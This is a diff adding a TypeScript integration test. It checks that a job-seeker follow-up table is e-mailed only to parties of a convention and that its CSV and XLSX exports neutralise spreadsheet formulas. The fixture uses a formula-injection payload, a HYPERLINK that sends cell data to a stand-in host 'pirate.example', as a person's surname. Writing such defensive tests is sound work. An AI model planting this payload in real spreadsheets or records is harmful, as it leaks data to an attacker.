@@ -1,0 +1,111 @@
+import ExcelJS from "exceljs";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { parisToday } from "../../domain/shared/calendarDate.js";
+import { createTestApp, type TestApp, type TestClient } from "../testing/testApp.js";
+
+/**
+ * The follow-up table of a review leaves the server as files (XLSX, CSV) and as e-mails to the
+ * convention's distribution list: each recipient gets only the rows the policy lets them receive,
+ * and no cell can be run by a spreadsheet as a formula.
+ */
+let t: TestApp;
+let advisor: TestClient;
+let reviewId: string;
+let haguenauCase: string;
+const today = parisToday();
+const FORMULA_NAME = '=HYPERLINK("http://pirate.example/?d="&A1;"Ouvrir")';
+const HAGUENAU_ID = "4455667H";
+const userId = async (local: string) => (await t.db.query<{ id: string }>("SELECT id FROM users WHERE email = $1", [`${local}@demo.tandem.fr`]))[0].id;
+
+beforeAll(async () => {
+  t = await createTestApp();
+  // A person of Haguenau (outside the city of Strasbourg) whose name is a spreadsheet formula, oriented by
+  // the Département and paired with the Strasbourg agency's advisor: on that agency's agenda.
+  const social = await t.loginAs("social.basrhin");
+  const created = await social.post("/api/job-seekers", {
+    ftIdentifier: HAGUENAU_ID,
+    firstName: "Chloé",
+    lastName: FORMULA_NAME,
+    birthDate: "1990-04-02",
+    communeInsee: "67180",
+    registeredAt: "2026-01-05",
+    benefits: ["RSA"],
+  });
+  expect(created.statusCode, created.body).toBe(201);
+  const oriented = await social.post("/api/support/cases", { jobSeekerId: created.json().id, origin: "departement_social_service", barriers: [{ code: "housing" }, { code: "mobility" }] });
+  expect(oriented.statusCode, oriented.body).toBe(201);
+  haguenauCase = oriented.json().id;
+  const base = `/api/support/cases/${haguenauCase}`;
+  expect((await social.post(`${base}/consent`, { givenOn: today, method: "in_person" })).statusCode).toBe(200);
+  const paired = await social.post(`${base}/pair`, { advisorId: await userId("conseiller.basrhin"), socialWorkerId: await userId("social.basrhin") });
+  expect(paired.statusCode, paired.body).toBe(200);
+  expect((await social.post(`${base}/diagnosis`, { kind: "shared", on: today })).statusCode).toBe(200);
+  expect((await social.post(`${base}/submission`, {})).statusCode).toBe(200);
+
+  // The distribution list names an organisation that is no party to the convention (a mistake in a file
+  // every party signed): its staff must receive nothing.
+  await t.db.query(
+    `UPDATE conventions SET base_terms = jsonb_set(base_terms, '{programmes,globalSupport,reviewDistribution}',
+       (base_terms #> '{programmes,globalSupport,reviewDistribution}') || $1::jsonb) WHERE number = 'BAS-RHIN-2021-AG'`,
+    [JSON.stringify([{ label: "Conseil départemental de la Creuse", organisation: "cd-creuse", roles: ["steering"], source: "erreur de saisie" }])],
+  );
+
+  advisor = await t.loginAs("conseiller.basrhin");
+  const [convention] = await t.db.query<{ id: string }>("SELECT id FROM conventions WHERE number = 'BAS-RHIN-2021-AG'");
+  const scheduled = await advisor.post("/api/reviews", { conventionId: convention.id, agencyIds: [await orgId("ft-strasbourg")], heldOn: today });
+  expect(scheduled.statusCode, scheduled.body).toBe(201);
+  reviewId = scheduled.json().id;
+  const decided = await advisor.put(`/api/reviews/${reviewId}/decisions/${haguenauCase}`, { kind: "accept_entry", note: "=1+2" });
+  expect(decided.statusCode, decided.body).toBe(200);
+  const closed = await advisor.post(`/api/reviews/${reviewId}/close`);
+  expect(closed.statusCode, closed.body).toBe(200);
+});
+afterAll(() => t.close());
+
+async function orgId(code: string) {
+  return (await t.db.query<{ id: string }>("SELECT id FROM organisations WHERE code = $1", [code]))[0].id;
+}
+const mailTo = async (local: string) =>
+  t.db.query<{ body_text: string }>("SELECT body_text FROM emails WHERE to_address = $1 AND subject LIKE 'Tableau de suivi%'", [`${local}@demo.tandem.fr`]);
+
+describe("the follow-up table sent to the distribution list", () => {
+  it("reaches no one of an organisation that is not a party to the convention", async () => {
+    expect(await mailTo("pilotage.creuse")).toEqual([]);
+    const review = (await advisor.get(`/api/reviews/${reviewId}`)).json();
+    expect(JSON.stringify(review.distribution)).not.toContain("creuse");
+  });
+
+  it("gives each listed party's staff the rows of the cases within their organisation's reach, and the pair their own", async () => {
+    // The Ville de Strasbourg serves Strasbourg only: a Haguenau person's row is not the city's to receive.
+    const [city] = await mailTo("admin.strasbourg");
+    expect(city.body_text).not.toContain(HAGUENAU_ID);
+    expect(city.body_text).toMatch(/^- .*\(\w+\) — binôme/m);
+    // The Département (the whole of Bas-Rhin), the agency that follows the person, the pair: they do.
+    for (const local of ["pilotage.basrhin", "pilotage.ft-basrhin", "social.basrhin", "conseiller.basrhin"]) {
+      const [mail] = await mailTo(local);
+      expect(mail.body_text, local).toContain(HAGUENAU_ID);
+    }
+    const [otherPair] = await mailTo("social.strasbourg");
+    expect(otherPair?.body_text ?? "").not.toContain(HAGUENAU_ID);
+  });
+});
+
+describe("no cell of an export runs as a formula", () => {
+  it("the follow-up CSV and XLSX neutralise a name starting with =", async () => {
+    const csv = (await advisor.get(`/api/reviews/${reviewId}/documents/1/table_csv`)).body;
+    const line = csv.split("\r\n").find((l) => l.includes(HAGUENAU_ID))!;
+    // The cell is quoted (it holds ; and ") and starts with an apostrophe: the spreadsheet shows text.
+    expect(line.startsWith(`"'=HYPERLINK(""http://pirate.example/?d=""&A1;""Ouvrir"")`)).toBe(true);
+    expect(csv).not.toMatch(/(^|;|\r\n)"?=/);
+
+    const xlsx = await advisor.get(`/api/reviews/${reviewId}/documents/1/table_xlsx`);
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
+    const sheet = workbook.getWorksheet("Tableau de suivi")!;
+    const values: unknown[] = [];
+    sheet.eachRow((row) => row.eachCell((cell) => values.push(cell.value)));
+    expect(values).toContain(`'${FORMULA_NAME} Chloé`);
+    expect(values.filter((v) => typeof v === "string" && /^[=+\-@\t\r]/.test(v))).toEqual([]);
+    expect(values.filter((v) => typeof v === "object" && v !== null && "formula" in v)).toEqual([]);
+  });
+});
